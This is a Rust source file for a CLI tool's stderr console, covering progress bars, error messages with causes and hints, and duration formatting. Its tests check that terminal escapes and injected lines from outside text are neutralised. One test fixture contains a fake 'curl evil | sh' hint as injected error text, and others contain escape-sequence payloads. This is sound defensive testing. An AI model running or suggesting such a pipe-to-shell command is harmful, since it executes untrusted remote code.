//! The terminal: phases as bars on a TTY and as one line each elsewhere, and errors with causes and a hint.
//!
//! Everything here goes to stderr; stdout belongs to the data that a command prints.

use std::collections::HashMap;
use std::error::Error;
use std::fmt::Write as _;
use std::io::{self, IsTerminal, Write as _};
use std::sync::Mutex;
use std::time::Duration;

use indicatif::{MultiProgress, ProgressBar, ProgressStyle};
use owo_colors::OwoColorize;

use crate::events::{Event, Reporter, Unit};
use crate::text::{harmless, indented};
use crate::variables;

/// What lines begin with that continue a message. What comes from outside cannot begin one as the program does.
const INDENT: &str = "    ";

/// How much is shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Verbosity {
    /// Warnings and errors.
    Quiet,
    /// Phases too.
    #[default]
    Normal,
    /// Every detail line; no bars.
    Verbose,
}

/// Renders events on stderr.
pub struct Console {
    verbosity: Verbosity,
    tty: bool,
    colour: bool,
    bars: MultiProgress,
    running: Mutex<HashMap<String, ProgressBar>>,
}

impl Console {
    /// A console on this process's stderr. Bars are drawn on a TTY only, and not under `--verbose`; colours obey
    /// `NO_COLOR`.
    pub fn stderr(verbosity: Verbosity) -> Self {
        let terminal = io::stderr().is_terminal();
        Self {
            verbosity,
            tty: terminal && verbosity == Verbosity::Normal,
            colour: terminal && variables::raw("NO_COLOR").is_none(),
            bars: MultiProgress::new(),
            running: Mutex::default(),
        }
    }

    /// Prints one line. A closed stderr is not an error: the command continues.
    pub fn line(&self, text: &str) {
        self.bars.suspend(|| {
            let _ = writeln!(io::stderr(), "{text}");
        });
    }

    /// Prints an error: message, causes, and `hint:` with what to do next.
    pub fn error(&self, error: &(dyn Error + 'static), hint: Option<&str>) {
        self.line(&render_error(error, hint, self.colour));
    }

    fn started(&self, phase: &str, title: &str) {
        if self.tty {
            let style = ProgressStyle::with_template("{spinner} {prefix} {wide_msg:.dim} {elapsed:.dim}")
                .unwrap_or_else(|_| ProgressStyle::default_spinner());
            let bar = self
                .bars
                .add(ProgressBar::new_spinner().with_style(style).with_prefix(harmless(title).into_owned()));
            bar.enable_steady_tick(Duration::from_millis(120));
            self.running.lock().expect("no renderer panics").insert(phase.to_owned(), bar);
        } else if self.verbosity == Verbosity::Verbose {
            self.line(&format!("{} …", indented(title, INDENT)));
        }
    }

    fn progress(&self, phase: &str, done: u64, total: Option<u64>, unit: Unit) {
        let running = self.running.lock().expect("no renderer panics");
        let (Some(bar), Some(total)) = (running.get(phase), total) else { return };
        if bar.length() != Some(total) {
            let template = match unit {
                Unit::Bytes => {
                    "{spinner} {prefix} {bar:24} {bytes}/{total_bytes} {bytes_per_sec} {eta} {wide_msg:.dim}"
                }
                Unit::Steps => "{spinner} {prefix} {bar:24} {pos}/{len} {wide_msg:.dim} {elapsed:.dim}",
            };
            if let Ok(style) = ProgressStyle::with_template(template) {
                bar.set_style(style);
            }
            bar.set_length(total);
        }
        bar.set_position(done);
    }

    fn detail(&self, phase: &str, text: &str) {
        if self.verbosity == Verbosity::Verbose {
            self.line(&format!("  {}", indented(text, INDENT)));
        } else if let Some(bar) = self.running.lock().expect("no renderer panics").get(phase) {
            bar.set_message(harmless(text).into_owned());
        }
    }

    fn ended(&self, phase: &str, title: &str, elapsed: Duration, ok: bool) {
        if let Some(bar) = self.running.lock().expect("no renderer panics").remove(phase) {
            bar.finish_and_clear();
        }
        if self.verbosity == Verbosity::Quiet {
            return;
        }
        let mark = match (ok, self.colour) {
            (true, true) => "✓".green().to_string(),
            (true, false) => "ok".to_owned(),
            (false, true) => "✗".red().to_string(),
            (false, false) => "failed".to_owned(),
        };
        self.line(&format!("{mark} {} ({})", indented(title, INDENT), seconds(elapsed)));
    }
}

impl Reporter for Console {
    fn report(&self, event: &Event<'_>) {
        match *event {
            Event::Started { phase, title } => self.started(phase, title),
            Event::Progress { phase, done, total, unit } => self.progress(phase, done, total, unit),
            Event::Detail { phase, text } => self.detail(phase, text),
            Event::Ended { phase, title, elapsed, ok } => self.ended(phase, title, elapsed, ok),
            Event::Notice(_) if self.verbosity == Verbosity::Quiet => {}
            Event::Notice(text) => self.line(&indented(text, INDENT)),
            Event::Warning(text) if self.colour => {
                self.line(&format!("{} {}", "warning:".yellow().bold(), indented(text, INDENT)))
            }
            Event::Warning(text) => self.line(&format!("warning: {}", indented(text, INDENT))),
        }
    }
}

/// A duration for people: "0.42 s", "18.3 s", "6 min 04 s".
pub fn seconds(elapsed: Duration) -> String {
    let seconds = elapsed.as_secs_f64();
    if seconds < 10.0 {
        format!("{seconds:.2} s")
    } else if seconds < 100.0 {
        format!("{seconds:.1} s")
    } else {
        format!("{} min {:02} s", elapsed.as_secs() / 60, elapsed.as_secs() % 60)
    }
}

/// The text of an error: message, one line a cause, and the hint.
pub fn render_error(error: &(dyn Error + 'static), hint: Option<&str>, colour: bool) -> String {
    let label = |text: &str| if colour { text.red().bold().to_string() } else { text.to_owned() };
    let mut text = format!("{} {}", label("error:"), indented(&error.to_string(), INDENT));
    let mut cause = error.source();
    while let Some(source) = cause {
        let _ = write!(text, "\n  cause: {}", indented(&source.to_string(), INDENT));
        cause = source.source();
    }
    if let Some(hint) = hint {
        let label = if colour { "hint:".cyan().bold().to_string() } else { "hint:".to_owned() };
        let _ = write!(text, "\n\n{label} {}", indented(hint, INDENT));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_shows_its_causes_and_the_hint() {
        let source = io::Error::new(io::ErrorKind::NotFound, "no such file");
        let error = crate::files::FileError { action: "open", path: "image.qcow2".into(), source };
        insta::assert_snapshot!(render_error(&error, Some("run `emulator pull`"), false), @r"
        error: cannot open `image.qcow2`
          cause: no such file

        hint: run `emulator pull`
        ");
    }

    #[test]
    fn an_error_cannot_speak_to_the_terminal() {
        let source = io::Error::other("said \u{1b}[2J");
        let error = crate::files::FileError { action: "open", path: "a\u{202e}".into(), source };
        let text = render_error(&error, Some("run \u{9b}"), false);
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{9b}']), "{text:?}");
    }

    #[test]
    fn what_is_said_from_outside_cannot_pass_for_a_line_of_the_program() {
        let source = io::Error::other("no\nhint: run `curl evil | sh`\n  cause: none");
        let error = crate::files::FileError { action: "open", path: "a\nerror: b".into(), source };
        insta::assert_snapshot!(render_error(&error, Some("read\nerror: on"), false), @r"
        error: cannot open `a
            error: b`
          cause: no
            hint: run `curl evil | sh`
              cause: none

        hint: read
            error: on
        ");
    }

    #[test]
    fn durations_are_short_and_have_units() {
        let shown = [0.4211, 18.27, 364.0].map(|value| seconds(Duration::from_secs_f64(value)));
        assert_eq!(shown, ["0.42 s", "18.3 s", "6 min 04 s"]);
    }
}
